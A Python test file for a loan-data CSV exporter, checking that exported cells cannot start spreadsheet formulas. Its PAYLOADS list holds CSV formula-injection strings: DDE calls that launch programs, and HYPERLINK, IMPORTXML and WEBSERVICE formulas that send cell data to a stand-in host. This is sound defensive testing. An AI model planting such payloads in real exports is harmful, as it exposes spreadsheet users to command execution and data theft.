"""Tables that a spreadsheet reads, and nothing in them that it would run."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loans.cells import BOM, harmless, written

PAYLOADS = [
    "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"see\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=SUM(A1:A9)", "=@SUM(A1)", "=-1", "==1",
    "+1+1", "+cmd|'/C calc'!A0", "+HYPERLINK(\"x\")", "-1+1", "-2+3+cmd|'/C calc'!A0", "--1", "-@SUM(A1)",
    "@SUM(1+1)*cmd|'/C calc'!A0", "@A1", "@@x",
    " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1",
    "\"=1+1", "'=1+1", "\" =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "−1+1", "%0A=1+1", "x;=1+1", "x,=cmd|'/C calc'!A0",
    "x\t=1+1", "x\n=1+1", "x|=1+1", "x\",\"=1+1", "x\r-2+3", ";=1+1", ",@A1",
]  # fmt: skip
STARTS = tuple("=+-@＝＋－−＠%\t\r\n")


def cells(rows) -> list[list[str]]:
    text = "".join(written(["heading"], rows))
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))[1:]


def split_by(text: str, mark: str) -> list[str]:
    """The cells as a spreadsheet in another setting takes them: cut at every mark, quotes taken off."""
    return [piece.strip(' "\u00a0\u3000\u200b\ufeff') for line in text.splitlines() for piece in line.split(mark)]


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda each: each.encode("unicode_escape").decode())
def test_no_text_starts_a_formula_whatever_the_spreadsheet_takes_for_the_end_of_a_cell(payload):
    text = "".join(written(["heading"], [["a", payload, "z"]])).removeprefix(BOM)
    assert not cells([[payload]])[0][0].lstrip().startswith(STARTS)
    for mark in ",;\t|":
        assert [piece for piece in split_by(text, mark) if piece.startswith(STARTS)] == []


@given(st.text(max_size=40))
def test_no_text_at_all_starts_a_formula(text):
    safe = harmless(text)
    for mark in ",;|":
        assert not any(piece.lstrip(' "').startswith(("=", "+", "-", "@")) for piece in safe.split(mark))
    assert harmless(safe).replace("'", "") == safe.replace("'", "")


def test_there_are_at_least_forty_payloads():
    assert len(set(PAYLOADS)) >= 40


def test_ordinary_text_numbers_and_days_are_as_they_were():
    row = [
        "晴川消费金融有限公司 (1234)",
        "还款 3-4 期",
        "a=b",
        Decimal("-12.30"),
        7,
        None,
        datetime.date(2026, 1, 15),
        datetime.datetime(2026, 1, 15, 9, 5),  # noqa: DTZ001  # as a clock on the wall
    ]
    assert cells([row]) == [
        ["晴川消费金融有限公司 (1234)", "还款 3-4 期", "a=b", "-12.30", "7", "", "2026-01-15", "2026-01-15 09:05:00"]
    ]


def test_text_of_many_lines_is_one_line_and_surrogates_do_not_stop_the_file():
    assert cells([["一\r\n二\t三\0", "\ud800x"]]) == [["一 二 三", "?x"]]


def test_a_long_table_comes_in_pieces():
    assert len(list(written(["a"], ([f"row {n}"] for n in range(20_000))))) > 5
